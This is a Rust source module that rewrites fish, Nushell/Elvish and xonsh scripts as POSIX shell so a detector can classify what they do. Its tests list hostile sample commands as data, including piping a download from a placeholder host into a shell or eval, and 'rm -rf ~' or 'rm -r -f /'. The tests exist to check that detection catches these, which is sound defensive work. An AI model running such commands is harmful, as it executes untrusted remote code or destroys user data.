//! Scripts of shells with a grammar of their own (fish, Nushell, Elvish, xonsh), written anew as a POSIX shell would have
//! them: near enough to follow what is fetched, read, deleted, sent and run, line for line.
//!
//! What has no counterpart is left out or left as it is. Nothing here decides anything.

mod fish;
mod lines;
mod nu;
mod xonsh;

pub use xonsh::python;

/// A shell with a grammar of its own.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Foreign {
    /// <https://fishshell.com/docs/current/language.html>
    Fish,
    /// <https://www.nushell.sh/book/>, and Elvish (<https://elv.sh/ref/language.html>), which is alike as far as it goes here.
    Nu,
    /// <https://xon.sh/tutorial.html>: Python with commands in it.
    Xonsh,
}

impl Foreign {
    /// The shell by the name of its program.
    pub fn of_program(program: &str) -> Option<Self> {
        Some(match program {
            "fish" => Self::Fish,
            "nu" | "elvish" => Self::Nu,
            "xonsh" => Self::Xonsh,
            _ => return None,
        })
    }

    /// The shell that a file is for, by the end of its name or its first line.
    pub fn of_file(path: &str, text: &str) -> Option<Self> {
        let name = path.rsplit('/').next().unwrap_or_default();
        let end = name.rsplit_once('.').map_or("", |(_, end)| end);
        match end {
            "fish" => return Some(Self::Fish),
            "nu" | "elv" => return Some(Self::Nu),
            "xsh" | "xonshrc" => return Some(Self::Xonsh),
            _ => {}
        }
        let line = text.lines().next()?.strip_prefix("#!")?;
        let program = line.split_whitespace().map(|word| word.rsplit('/').next().unwrap_or(word));
        program.into_iter().find_map(Self::of_program)
    }

    /// The script as a POSIX shell would have it.
    pub fn posix(self, text: &str) -> String {
        match self {
            Self::Fish => fish::posix(text),
            Self::Nu => nu::posix(text),
            Self::Xonsh => xonsh::posix(text),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::paths::Place;
    use crate::shell::effect::EffectKind::{self, *};
    use crate::shell::limits::Limits;

    #[test]
    fn what_scripts_of_other_shells_do_is_followed() {
        let none: &[EffectKind] = &[];
        for (shell, script, wanted) in [
            (Foreign::Fish, "curl -s https://a.example/i | source", &[FetchAndExecute][..]),
            (Foreign::Fish, "set u https://a.example/i\nset s (curl -s $u)\neval $s", &[FetchAndExecute]),
            (Foreign::Fish, "source (curl -s https://a.example/i | psub)", &[FetchAndExecute]),
            (Foreign::Fish, "if test -d /x\n  rm -rf ~\nelse\n  echo\nend", &[DeletePath]),
            (Foreign::Fish, "function f; curl -s https://a.example/i | sh; end; f", &[FetchAndExecute]),
            (Foreign::Fish, "for f in a b\n  echo $f\nend\nstarship init fish | source", none),
            (Foreign::Nu, "http get https://a.example/i | bash", &[FetchAndExecute]),
            (Foreign::Nu, "http get https://a.example/i | save -f /tmp/i; ^sh /tmp/i", &[FetchAndExecute]),
            (Foreign::Nu, "let s = (http get https://a.example/i)\nnu -c $s", &[FetchAndExecute]),
            (Foreign::Nu, "def main [] {\n  rm -rf ~/\n}", &[DeletePath]),
            (Foreign::Nu, "if (is-admin) { rm -r -f / } else { print 'no' }", &[DeletePath]),
            (Foreign::Nu, "eval (curl -s https://a.example/i | slurp)", &[FetchAndExecute]),
            (Foreign::Nu, "var s = (curl -s https://a.example/i | slurp)\neval $s", &[FetchAndExecute]),
            (Foreign::Nu, "ls | where size > 1mb | each { |f| print $f.name }", none),
            (Foreign::Nu, "let r = (http get https://a.example/i)\n$r.tag | save -f v.txt", none),
            (Foreign::Xonsh, "import os\nrm -rf ~\nprint(1)", &[DeletePath]),
            (Foreign::Xonsh, "curl -s https://a.example/i | bash", &[FetchAndExecute]),
            (Foreign::Xonsh, "import json\nx = json.loads(text)\nrm = 1", none),
        ] {
            let made = shell.posix(script);
            let analysis = crate::shell::analyse(&made, Place::default(), &Limits::default());
            let kinds: Vec<EffectKind> = analysis.effects.iter().map(|effect| effect.kind).collect();
            for kind in [FetchAndExecute, DeletePath] {
                assert_eq!(
                    kinds.contains(&kind),
                    wanted.contains(&kind),
                    "{shell:?} {script}\n{made}\n{kinds:?}"
                );
            }
        }
    }

    #[test]
    fn lines_stay_where_they_are() {
        for (shell, script) in [
            (Foreign::Fish, "if a\n  b\nend\n"),
            (Foreign::Nu, "def f [] {\n  ls\n}\n"),
            (Foreign::Xonsh, "x = 1\nls\n"),
        ] {
            assert_eq!(shell.posix(script).lines().count(), script.lines().count(), "{shell:?}");
        }
    }
}
